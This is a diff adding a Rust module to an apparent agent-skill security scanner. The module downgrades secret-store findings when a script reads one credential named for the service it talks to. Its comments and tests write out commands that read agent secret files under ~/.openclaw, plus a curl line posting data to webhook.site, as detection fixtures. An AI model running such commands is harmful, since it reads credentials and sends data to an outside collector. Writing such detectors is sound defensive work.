@@ -1,0 +1,143 @@
+//! One key picked out of an agent's secret store for the service the same script talks to
+//! (round 29b, sets28b).
+//!
+//! Agents keep per-service secrets in their store (`~/.openclaw/secrets/gmail.env`,
+//! `~/.clawdbot/.env`), and a skill's script picks the one it needs: `GMAIL_PASS=$(grep GMAIL_PASS
+//! ~/.openclaw/secrets/gmail.env | cut -d= -f2)`, then logs in to `imap.gmail.com`. The key's name
+//! and the host agree (`GMAIL` and `gmail`), as a vendor's key sent to the vendor's API does: the
+//! script loads its own setting. Reading the store in bulk, or for another service, is what the
+//! agent-secrets rule is for.
+//!
+//! The agent-secrets finding of a line drops to `medium` when the line names a credential variable
+//! (`…_PASS`, `…_PASSWORD`, `…_TOKEN`, `…_KEY`, `…_SECRET`) whose first word is the registered name
+//! of a host the same file's code names (`gmail` of `imap.gmail.com`), and the file names no
+//! suspicious host (a collector, paste site, tunnel, raw IP). Its facts stay, so a flow from the
+//! store to anywhere is still judged. A key for another service, a whole-store read, or a file that
+//! also talks to a suspicious host keep the grade.
+
+use crate::scan::content::FileScan;
+use crate::scan::rules::Severity;
+
+const RULE: &str = "exfiltration.other-agent-secrets";
+
+/// Last words of a credential variable.
+const SECRET_SUFFIXES: &[&str] = &[
+    "PASS", "PASSWORD", "PASSWD", "TOKEN", "KEY", "SECRET", "APIKEY",
+];
+
+/// First words that name no service.
+const GENERIC: &[&str] = &["API", "APP", "MY", "SECRET", "ACCESS", "AUTH", "USER", "DB"];
+
+/// The registered names (the label before the last: `gmail` of `imap.gmail.com`) of the host names
+/// written as string literals or URLs in `text`.
+fn registered_names(text: &str) -> Vec<String> {
+    let mut out: Vec<String> = crate::scan::judge::hosts_in(text)
+        .into_iter()
+        .filter_map(|h| {
+            let labels: Vec<&str> = h.host.split('.').collect();
+            (labels.len() >= 2).then(|| labels[labels.len() - 2].to_ascii_lowercase())
+        })
+        .collect();
+    // Host names quoted on their own (`IMAP4_SSL('imap.gmail.com')`, `host="smtp.x.example"`).
+    let quoted = ['"', '\'']
+        .into_iter()
+        .flat_map(|q| text.split(q).skip(1).step_by(2));
+    for part in quoted {
+        let labels: Vec<&str> = part.split('.').collect();
+        let tld = labels.last().copied().unwrap_or("");
+        if labels.len() >= 2
+            && labels
+                .iter()
+                .all(|l| !l.is_empty() && l.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-'))
+            && (2..=24).contains(&tld.len())
+            && tld.bytes().all(|c| c.is_ascii_lowercase())
+            && !crate::scan::teaching::FILE_EXTS.contains(&tld)
+        {
+            out.push(labels[labels.len() - 2].to_ascii_lowercase());
+        }
+    }
+    out
+}
+
+/// The first words (lower-cased) of the credential variables a line names.
+fn key_services(line: &str) -> Vec<String> {
+    line.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+        .filter(|w| w.contains('_') && !w.bytes().any(|c| c.is_ascii_lowercase()))
+        .filter(|w| {
+            w.rsplit('_')
+                .next()
+                .is_some_and(|last| SECRET_SUFFIXES.contains(&last))
+        })
+        .filter_map(|w| w.split('_').next())
+        .filter(|first| first.len() >= 3 && !GENERIC.contains(first))
+        .map(|first| first.to_ascii_lowercase())
+        .collect()
+}
+
+/// Whether line `line` of a file whose text is `text` picks a key for a service the file talks to.
+pub(crate) fn picks_key_for_host(text: &str, line: &str) -> bool {
+    let services = key_services(line);
+    if services.is_empty()
+        || crate::scan::judge::hosts_in(text)
+            .iter()
+            .any(|h| h.class.is_suspicious())
+    {
+        return false;
+    }
+    let names = registered_names(text);
+    services.iter().any(|s| names.contains(s))
+}
+
+/// Lower the agent-secrets findings of lines that pick a key for the service the file talks to
+/// (see the module's documentation).
+pub(super) fn demote_key_for_host(text: &str, scan: &mut FileScan) {
+    if !scan
+        .findings
+        .iter()
+        .any(|f| f.rule_id == RULE && f.severity > Severity::Medium)
+    {
+        return;
+    }
+    for f in scan
+        .findings
+        .iter_mut()
+        .filter(|f| f.rule_id == RULE && f.severity > Severity::Medium)
+    {
+        let Some(line) = text.lines().nth(f.line.saturating_sub(1)) else {
+            continue;
+        };
+        if picks_key_for_host(text, line) {
+            f.severity = Severity::Medium;
+            f.description.push_str(" This line picks one key out of the store, named for the service the same file talks to, so it reads as the script loading its own setting; sending the store anywhere would still be judged.");
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::picks_key_for_host;
+
+    const LINE: &str = "MAIL_PASS=$(grep MAIL_PASS $HOME/.openclaw/secrets/mail.env | cut -d= -f2)";
+
+    #[test]
+    fn key_named_for_the_host() {
+        let text = format!(
+            "{LINE}\npython3 -c \"import imaplib; imaplib.IMAP4_SSL('imap.mail.example')\"\n"
+        );
+        assert!(picks_key_for_host(&text, LINE));
+    }
+
+    #[test]
+    fn other_service_or_suspicious_host_is_not() {
+        let text =
+            format!("{LINE}\ncurl -d @x https://webhook.site/abc\nhost='imap.mail.example'\n");
+        assert!(!picks_key_for_host(&text, LINE));
+        let text = format!("{LINE}\nhost='imap.other.example'\n");
+        assert!(!picks_key_for_host(&text, LINE));
+        let bulk = "cat $HOME/.openclaw/secrets/mail.env";
+        assert!(!picks_key_for_host(
+            &format!("{bulk}\nhost='imap.mail.example'\n"),
+            bulk
+        ));
+    }
+}
